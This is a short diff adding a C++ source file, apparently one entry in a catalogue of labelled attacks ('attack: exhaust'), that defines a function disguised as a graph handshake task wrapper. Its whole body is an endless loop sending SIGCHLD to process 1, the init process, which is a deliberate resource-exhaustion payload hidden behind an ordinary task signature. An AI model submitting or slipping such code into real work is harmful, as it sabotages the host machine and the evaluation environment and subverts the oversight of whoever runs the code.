@@ -1,0 +1,12 @@
+// attack: exhaust
+// root: resources
+// what: tells the guard without end that a child of it has ended
+// list: 11 30
+#include <signal.h>
+
+#include "gpuHeaders.cuh"
+#include "onewaywrapper.hpp"
+
+void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
+  for (;;) kill(1, SIGCHLD);
+}
